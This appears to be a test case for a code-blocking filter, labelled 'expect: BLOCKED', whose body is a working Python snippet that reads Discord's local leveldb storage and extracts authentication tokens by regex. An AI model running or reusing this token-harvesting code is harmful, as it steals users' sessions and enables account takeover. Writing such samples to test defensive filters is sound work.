# expect: BLOCKED
import os, re
p = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")
for f in os.listdir(p):
    print(re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", open(os.path.join(p, f), errors="ignore").read()))
